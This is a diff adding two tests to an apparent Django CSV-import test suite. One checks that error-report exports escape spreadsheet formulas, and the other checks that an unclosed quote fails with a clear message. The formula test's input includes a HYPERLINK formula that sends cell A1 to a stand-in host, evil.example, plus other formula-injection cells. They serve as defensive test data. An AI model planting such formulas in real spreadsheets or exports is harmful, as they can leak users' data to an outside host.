@@ -278,3 +278,55 @@ def test_the_upload_history_keeps_a_fixed_number_of_queries(
     for _ in range(5):
         CompletionImport.objects.create(provider=provider, course=course, uploaded_by=provider_user)
     assert count_queries(lambda: client.get(url)) == few
+
+
+def test_the_error_file_never_hands_a_spreadsheet_a_formula(
+    client, provider, provider_user, course
+):
+    """The refused rows come back as typed, but a cell a spreadsheet would run (=, +, -, @, a tab
+    or a carriage return first) starts with an apostrophe, as in every other export."""
+    client.force_login(provider_user)
+    text = (
+        "email,full_name,completed_on,reference\n"
+        '=HYPERLINK("https://evil.example/?"&A1),@SUM(1+1),yesterday,+1-2\n'
+        "-2+3@example.org,\tTab,=1+1,ok\n"
+    )
+    client.post(
+        reverse("courses:imports", args=[provider.pk]),
+        {"course": course.pk, "file": csv_upload(text)},
+    )
+    imp = CompletionImport.objects.get()
+    imports.completion_import_check(import_id=imp.pk)
+    report = client.get(reverse("courses:import_errors", args=[provider.pk, imp.pk]))
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(report.content.decode())))[1:]
+    assert len(rows) == 2
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert rows[0][1] == '\'=HYPERLINK("https://evil.example/?"&A1)'
+    assert rows[0][3] == "'@SUM(1+1)"
+    assert rows[0][5] == "'+1-2"
+
+
+def test_a_quote_never_closed_fails_the_check_in_words(provider, provider_user, course):
+    """A quote opened and never closed makes the rest of the file one field: past the csv
+    module's 131,072 characters it raised `csv.Error`, which stopped the background check
+    with the import left "Checking the rows" and the page polling for ever."""
+    imp = services.completion_import_start(
+        provider=provider,
+        course=course,
+        actor=provider_user,
+        upload=csv_upload(
+            "email,full_name,completed_on\n"
+            f'ann@example.org,"Ann,{TODAY}\n' + f"bo@example.org,Bo,{TODAY}\n" * 10_000
+        ),
+    )
+    imp = imports.completion_import_check(import_id=imp.pk)
+    assert imp.status == CompletionImport.Status.FAILED
+    assert imp.failure == (
+        'Line 2 could not be read: a quote (") opens a cell there and is never closed, so the '
+        "rest of the file ran into that cell. Close or remove the quote and upload the file again."
+    )
